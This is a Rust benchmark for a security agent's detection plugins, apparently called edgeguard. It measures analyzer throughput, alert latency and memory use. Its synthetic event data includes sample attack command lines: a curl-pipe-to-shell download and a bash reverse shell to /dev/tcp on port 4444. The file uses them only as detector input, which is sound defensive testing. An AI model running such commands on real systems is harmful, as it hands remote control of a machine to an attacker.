//! Analysis benchmarks: what the built-in analyzers cost and how fast an alert comes.
//!
//! 1. Events per second through each built-in analyzer, in the real runtime on one core: the
//!    host calls `analyze` with batches of 5000 events (a `max_events_per_call` raised from
//!    the default 1024) as the scheduler does, events flattened into fields as the tap hands
//!    them.
//! 2. Alert latency, from a process's exec to its Alert in the sink, for each binary users run
//!    (`release` and the image's `dist`): `edgeguard run` with the process collector on the
//!    kernel's events and `process-alerts`, the queues' send frequencies an hour (alerts skip
//!    them), 200 processes 50 ms apart, each naming its own mining pool.
//! 3. Resident memory an analyzer adds: `edgeguard run` with the process collector alone, then
//!    with each analyzer beside it, idle after 15 s.
//!
//! `cargo xtask bench` runs it; alone, `cargo bench -p edgeguard-tests --bench analysis` needs
//! the release binary and plugins built (and `cargo xtask image` for the dist binary).

use edgeguard::capabilities::{Capability, HostContext};
use edgeguard::config::Limits;
use edgeguard::events::{self, Origin, SecurityEvent};
use edgeguard::sandbox::LoadedPlugin;
use edgeguard_tests::{custom_event, plugin, process_create, runtime, status_bytes, user_binaries};
use std::fmt::Write as _;
use std::io::{BufRead, BufReader, Seek};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const BATCH: usize = 5000;
const BATCHES: usize = 40;
const ANALYZERS: [&str; 4] = [
    "process-alerts",
    "login-alerts",
    "network-alerts",
    "container-alerts",
];

/// Realistic command lines: mostly ordinary ones, one in a hundred an attack.
fn command_line(i: usize) -> String {
    match i % 100 {
        0 => format!("sh -c curl -s https://x{i}.example/i.sh | sh"),
        1 => format!(
            "bash -c bash -i >& /dev/tcp/10.0.{}.{}/4444 0>&1",
            i / 256 % 256,
            i % 256
        ),
        n if n % 3 == 0 => format!("/usr/bin/python3 /opt/app/worker.py --queue q{i} --verbose"),
        n if n % 3 == 1 => format!("sh -c ls -la /var/lib/app/{i} | grep -v tmp > /dev/null"),
        _ => format!("/usr/lib/systemd/systemd-journald --instance {i}"),
    }
}

fn event(analyzer: &str, i: usize) -> SecurityEvent {
    use edgeguard::events::{Category, EventType};
    let asc = |name: &str, item: serde_json::Value| {
        SecurityEvent::new(name, Category::Triggered, EventType::Security, vec![item])
    };
    match analyzer {
        "process-alerts" => process_create(1000 + i as u32, &command_line(i)),
        "login-alerts" => asc(
            "Login",
            serde_json::json!({
                "Operation": "Login", "Result": if i.is_multiple_of(4) { "Success" } else { "Fail" },
                "UserName": format!("user{}", i % 50), "RemoteAddress": format!("198.51.100.{}", i % 200),
                "RemotePort": "40000", "LocalPort": "22", "Executable": "/usr/sbin/sshd", "ProcessId": 4000,
            }),
        ),
        "network-alerts" => asc(
            "ConnectionCreate",
            serde_json::json!({
                "Protocol": "TCP", "Direction": "Out", "LocalAddress": "10.0.0.2", "LocalPort": (40000 + i % 20000).to_string(),
                "RemoteAddress": format!("203.0.{}.{}", i / 256 % 256, i % 256), "RemotePort": "443",
                "ProcessId": 77, "Executable": "/usr/bin/curl",
            }),
        ),
        _ => custom_event(
            "ContainerLifecycle",
            serde_json::json!({"Action": "start", "ContainerId": format!("{i:064x}"), "Name": format!("c{i}"), "Image": "registry.local/app:1"}),
        ),
    }
}

/// What the configuration turns on beyond the defaults, so that every rule does its work.
fn config(analyzer: &str) -> &'static str {
    match analyzer {
        "network-alerts" => {
            r#"{"OutboundNotAllowed": {"allowed": ["10.0.0.0/8"]}, "ConnectionsOutOfRange": {"enabled": true}}"#
        }
        "login-alerts" => r#"{"LoginUserNotAllowed": {"users": ["user1"]}}"#,
        _ => "{}",
    }
}

fn throughput() {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    println!("| analyzer | events/s (one core) | findings |\n|---|---|---|");
    rt.block_on(async {
        let (runtime, _dir) = runtime();
        for name in ANALYZERS {
            let loaded = LoadedPlugin::load_file(
                &runtime,
                name,
                &plugin(&format!("edgeguard-plugin-{name}")),
                &[Capability::Log],
                &[],
            )
            .await
            .unwrap();
            let mut instance = loaded
                .instantiate(
                    HostContext::new(Path::new("/")),
                    &Limits::default(),
                    config(name),
                )
                .await
                .unwrap();
            let origin = Origin::host();
            let batches: Vec<Vec<_>> = (0..BATCHES)
                .map(|b| {
                    (0..BATCH)
                        .map(|i| events::observed(&event(name, b * BATCH + i), &origin))
                        .collect()
                })
                .collect();
            let now = u64::try_from(chrono::Utc::now().timestamp_millis()).unwrap();
            let started = Instant::now();
            let mut findings = 0;
            for batch in &batches {
                findings += instance
                    .analyze(batch, now)
                    .await
                    .expect("no fault")
                    .expect("no error")
                    .len();
            }
            let rate = (BATCH * BATCHES) as f64 / started.elapsed().as_secs_f64();
            println!("| `{name}` | {rate:.0} | {findings} |");
        }
    });
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    sorted[((sorted.len() as f64 * p).ceil() as usize).clamp(1, sorted.len()) - 1]
}

fn write_config(dir: &Path, plugins: &Path, analyzers: &[&str], rest: &str) -> std::path::PathBuf {
    let mut text = format!(
        "[agent]\nplugin_dir = {plugins:?}\ncache_dir = {:?}\n[pipeline]\nstate_dir = {:?}\n\
         [schedule]\nfirst_collection_jitter = \"0s\"\n{rest}\
         [[plugin]]\nname = \"process\"\nfile = \"process.wasm\"\ngrants = [\"processes\", \"log\"]\n\
         [plugin.config]\nreport_existing = false\n",
        dir.join("cache"),
        dir.join("state")
    );
    for a in analyzers {
        let _ = writeln!(
            text,
            "[[plugin]]\nname = \"{a}\"\nfile = \"{a}.wasm\"\ngrants = [\"log\"]"
        );
    }
    let path = dir.join("edgeguard.toml");
    std::fs::write(&path, text).unwrap();
    path
}

fn start(binary: &Path, config: &Path, out: &Path) -> std::process::Child {
    Command::new(binary)
        .args(["--log", "warn", "run", "--config"])
        .arg(config)
        .arg("--output")
        .arg(out)
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

fn stop(mut child: std::process::Child) {
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    child.wait().unwrap();
}

/// The pool named in each Alert line appended to `out` since `offset`, and when it was read.
fn alerts_since(out: &Path, offset: &mut u64, seen: &mut Vec<(String, Instant)>) {
    let Ok(mut file) = std::fs::File::open(out) else {
        return;
    };
    file.seek(std::io::SeekFrom::Start(*offset)).unwrap();
    let mut reader = BufReader::new(file);
    let mut line = String::new();
    while reader.read_line(&mut line).unwrap() > 0 {
        if !line.ends_with('\n') {
            break;
        }
        *offset += line.len() as u64;
        if let Ok(message) = serde_json::from_str::<serde_json::Value>(&line) {
            for e in message["Events"].as_array().into_iter().flatten() {
                if let Some(matched) = e["Payload"][0]["ExtraDetails"]["Matched"].as_str() {
                    seen.push((matched.to_owned(), Instant::now()));
                }
            }
        }
        line.clear();
    }
}

fn latency(binary: &Path, plugins: &Path) -> (Duration, Duration, Duration, usize) {
    const PROCESSES: usize = 200;
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(
        dir.path(),
        plugins,
        &["process-alerts"],
        "[asc]\nhighPriorityMessageFrequency = \"PT1H\"\nlowPriorityMessageFrequency = \"PT1H\"\n",
    );
    let out = dir.path().join("out.jsonl");
    let child = start(binary, &config, &out);
    let (mut offset, mut seen) = (0, Vec::new());
    // Ready once a first miner is alerted.
    let deadline = Instant::now() + Duration::from_secs(30);
    while seen.is_empty() {
        assert!(
            Instant::now() < deadline,
            "no alert from {}",
            binary.display()
        );
        Command::new("sh")
            .args(["-c", ": stratum+tcp://ready:1"])
            .status()
            .unwrap();
        std::thread::sleep(Duration::from_millis(200));
        alerts_since(&out, &mut offset, &mut seen);
    }
    seen.clear();
    let mut spawned = Vec::with_capacity(PROCESSES);
    for i in 0..PROCESSES {
        let pool = format!("stratum+tcp://pool{i}.example:3333");
        spawned.push((pool.clone(), Instant::now()));
        Command::new("sh")
            .args(["-c", &format!(": {pool}")])
            .spawn()
            .unwrap()
            .wait()
            .unwrap();
        let next = Instant::now() + Duration::from_millis(50);
        while Instant::now() < next {
            alerts_since(&out, &mut offset, &mut seen);
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    while seen.len() < PROCESSES && Instant::now() < deadline {
        alerts_since(&out, &mut offset, &mut seen);
        std::thread::sleep(Duration::from_millis(2));
    }
    stop(child);
    let mut delays: Vec<Duration> = spawned
        .iter()
        .filter_map(|(pool, at)| {
            seen.iter()
                .find(|(m, _)| m == pool)
                .map(|(_, when)| when.saturating_duration_since(*at))
        })
        .collect();
    delays.sort();
    assert!(!delays.is_empty(), "no alert arrived");
    (
        percentile(&delays, 0.5),
        percentile(&delays, 0.99),
        *delays.last().unwrap(),
        delays.len(),
    )
}

fn idle_rss(binary: &Path, plugins: &Path, analyzers: &[&str]) -> u64 {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), plugins, analyzers, "");
    let child = start(binary, &config, &dir.path().join("out.jsonl"));
    std::thread::sleep(Duration::from_secs(15));
    let rss = status_bytes(child.id(), "VmRSS");
    stop(child);
    rss
}

fn main() {
    println!("Throughput: batches of {BATCH} events through each analyzer, {BATCHES} batches");
    throughput();
    let binaries = user_binaries();
    println!("\nAlert latency, exec to sink (200 processes, 50 ms apart):");
    println!("| binary | p50 | p99 | max | alerts |\n|---|---|---|---|---|");
    for (what, binary, plugins) in &binaries {
        let (p50, p99, max, n) = latency(binary, plugins);
        println!("| `{what}` | {p50:.0?} | {p99:.0?} | {max:.0?} | {n} of 200 |");
    }
    println!("\nResident memory an analyzer adds (idle after 15 s, beside the process collector):");
    println!(
        "| binary | process collector alone | {} |",
        ANALYZERS.map(|a| format!("+ `{a}`")).join(" | ")
    );
    println!("|---|---|{}", "---|".repeat(ANALYZERS.len()));
    for (what, binary, plugins) in &binaries {
        let base = idle_rss(binary, plugins, &[]);
        let mut row = format!("| `{what}` | {:.1} MiB |", base as f64 / f64::from(1 << 20));
        for a in ANALYZERS {
            let with = idle_rss(binary, plugins, &[a]);
            let _ = write!(
                row,
                " {:+.1} MiB |",
                (with as f64 - base as f64) / f64::from(1 << 20)
            );
        }
        println!("{row}");
    }
}
